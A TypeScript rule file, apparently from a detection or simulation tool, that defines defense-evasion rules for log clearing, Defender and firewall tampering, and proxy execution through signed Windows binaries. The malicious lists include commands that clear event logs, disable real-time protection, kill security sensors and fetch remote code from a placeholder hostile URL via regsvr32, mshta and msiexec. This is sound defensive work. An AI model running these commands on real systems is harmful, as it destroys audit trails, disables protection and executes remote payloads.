import type { DetectionRule } from "../rule.ts";

/** Defense evasion. */
export const EVASION_RULES: readonly DetectionRule[] = [
  {
    id: "R401",
    name: "log-clearing",
    tactic: "defense-evasion",
    technique: "T1070.001",
    severities: [1, 4, 4, 1],
    benign: [
      {
        parents: "mmc.exe cmd.exe powershell.exe ccmexec.exe",
        commands: [
          "wevtutil.exe epl Security {ownFile}",
          "wevtutil.exe gl Application",
          "wevtutil.exe cl Setup",
          "wevtutil.exe qe System /c",
          "forfiles.exe /p C:\\Admin /c del",
          "cleanmgr.exe /sagerun",
        ],
      },
      {
        parents: "mmc.exe rsat.exe",
        commands: ["wevtutil.exe cl Application"],
        on: ["management", "server"],
      },
    ],
    malicious: [
      {
        parents: "wscript.exe cmd.exe powershell.exe rundll32.exe",
        commands: [
          "wevtutil.exe cl Security",
          "wevtutil.exe sl Security disabled",
          "fsutil.exe usn deletejournal",
          "forfiles.exe /p C:\\Windows\\Prefetch /c del",
          "powershell.exe Clear-EventLog Security",
          "powershell.exe Clear-History",
        ],
      },
      {
        parents: "cmd.exe powershell.exe",
        commands: ["wevtutil.exe cl Application"],
        on: ["workstation"],
      },
    ],
    service: [
      {
        account: "svc_monitor",
        parents: "monitoragent.exe",
        commands: [
          "wevtutil.exe cl Security /collector siem",
          "wevtutil.exe epl Security {ownFile} /collector siem",
        ],
        on: ["server"],
      },
    ],
  },
  {
    id: "R402",
    name: "defender-change",
    tactic: "defense-evasion",
    technique: "T1562.001",
    severities: [1, 3, 4, 2],
    benign: [
      {
        parents: "explorer.exe cmd.exe ccmexec.exe msiexec.exe",
        commands: [
          "mpcmdrun.exe -SignatureUpdate",
          "mpcmdrun.exe -Scan full",
          "powershell.exe Get-MpPreference",
          "netsh.exe advfirewall show",
          "netsh.exe advfirewall allow {ownExe}",
        ],
      },
      {
        parents: "ccmexec.exe gpscript.exe",
        commands: ["powershell.exe Set-MpPreference exclude {ownExe}", "netsh.exe advfirewall off"],
      },
    ],
    malicious: [
      {
        parents: "explorer.exe cmd.exe wscript.exe rundll32.exe",
        commands: [
          "mpcmdrun.exe -RemoveDefinitions -All",
          "powershell.exe Set-MpPreference exclude {droppedExe}",
          "powershell.exe Set-MpPreference realtime off",
          "netsh.exe advfirewall off",
          "netsh.exe advfirewall allow {droppedExe}",
          "taskkill.exe /f /im antivirus.exe",
          "taskkill.exe /f /im sensor.exe",
        ],
      },
    ],
    service: [
      {
        account: "svc_patch",
        parents: "patchagent.exe",
        commands: [
          "powershell.exe Set-MpPreference realtime off /window sunday",
          "taskkill.exe /f /im antivirus.exe /window sunday",
        ],
        on: ["server"],
      },
    ],
  },
  {
    id: "R403",
    name: "proxy-execution",
    tactic: "defense-evasion",
    technique: "T1218",
    severities: [1, 5, 3, 1],
    benign: [
      {
        parents: "explorer.exe msiexec.exe cmd.exe ccmexec.exe",
        commands: [
          "regsvr32.exe /s {ownDll}",
          "rundll32.exe {ownDll} Register",
          "rundll32.exe shell32.dll Control_RunDLL",
          "mshta.exe {ownUrl}",
          "msiexec.exe /i {ownUrl}",
          "installutil.exe /u {ownExe}",
          "hh.exe manual.chm",
        ],
      },
    ],
    malicious: [
      {
        parents: "explorer.exe winword.exe cmd.exe wscript.exe",
        commands: [
          "regsvr32.exe /s {droppedDll}",
          "regsvr32.exe /i {hostileUrl} scrobj.dll",
          "rundll32.exe {droppedDll} Register",
          "rundll32.exe javascript RunHTMLApplication",
          "mshta.exe {hostileUrl}",
          "msiexec.exe /q /i {hostileUrl}",
          "installutil.exe /u {droppedExe}",
        ],
      },
    ],
  },
];
